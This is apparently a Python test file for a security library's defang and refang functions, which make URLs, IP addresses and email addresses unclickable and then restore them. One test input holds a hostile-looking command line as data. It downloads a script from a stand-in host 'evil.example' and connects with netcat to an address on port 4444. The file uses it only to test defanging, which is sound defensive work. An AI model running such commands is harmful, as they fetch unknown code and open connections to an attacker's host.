"""Defanging: what was there comes back, whatever it was, and nothing can be followed meanwhile."""

import re
from ipaddress import ip_address

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from irkit.protect.defang import defang, defang_links, refang

# Texts that look like what defanging makes, in whole and in parts.
PARTS = [
    "http",
    "hxxp",
    "hxxxp",
    "HtTp",
    "s",
    "://",
    "[://]",
    "[.]",
    "[:]",
    "[@]",
    "[",
    "]",
    ".",
    ":",
]
TRICKY = st.lists(st.sampled_from([*PARTS, "/", "@", "h", "x", "X", "t", "p", "。"])).map("".join)


@given(st.text() | TRICKY)
@example("hxxp://evil[.]example")
@example("http[://]x")
@example("hXxp://[[.]]")
def test_what_was_defanged_comes_back(text: str) -> None:
    assert refang(defang(text)) == text
    assert refang(defang(defang(text))) == defang(text)


@given(st.text() | TRICKY)
def test_nothing_is_left_to_follow(text: str) -> None:
    done = defang(text)
    assert not re.search(r"https?://", done, re.IGNORECASE)
    assert not re.search(r"(?<!\[)[.@]|[.@](?!\])", done)
    assert "://" not in done.replace("[://]", "")


@given(st.ip_addresses())
def test_no_program_reads_an_address(address: object) -> None:
    with pytest.raises(ValueError, match="does not appear to be"):
        ip_address(defang(str(address)))
    assert refang(defang(str(address))) == str(address)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("203.0.113.7", "203[.]0[.]113[.]7"),
        ("2001:db8::1", "2001[:]db8[:][:]1"),
        ("https://evil.example:8443/a", "hxxps[://]evil[.]example[:]8443/a"),
        ("HTTP://evil.example", "HXXP[://]evil[.]example"),
        ("ftp://evil.example/x", "ftp[://]evil[.]example/x"),
        ("a.smith@clinic.example", "a[.]smith[@]clinic[.]example"),
        ("evil。example", "evil[。]example"),
        ("localhost", "localhost"),
    ],
)
def test_it_reads_as_people_write_it(text: str, said: str) -> None:
    assert defang(text) == said


def test_in_a_text_only_links_are_defanged() -> None:
    text = "curl -o a.sh http://evil.example/a.sh; nc 203.0.113.7 4444 # v1.2 www.evil.example"
    (done,) = defang_links(text)
    assert done == (
        "curl -o a.sh hxxp[://]evil[.]example/a[.]sh; nc 203[.]0[.]113[.]7 4444 # v1.2 "
        "www[.]evil[.]example"
    )


def test_a_link_may_lie_across_parts() -> None:
    whole = "say http://evil.example/x.y now 1.2.3.4."
    for first in range(len(whole)):
        for second in range(first, len(whole), 5):
            parts = defang_links(whole[:first], whole[first:second], whole[second:])
            assert "".join(parts) == "say hxxp[://]evil[.]example/x[.]y now 1[.]2[.]3[.]4."


@pytest.mark.parametrize(
    "text", ["h" + "x" * 1_000_000, "http://" * 150_000, "a://" * 250_000, "1." * 500_000]
)
def test_a_long_text_takes_no_longer(text: str) -> None:
    assert refang(defang(text)) == text
    defang_links(text)
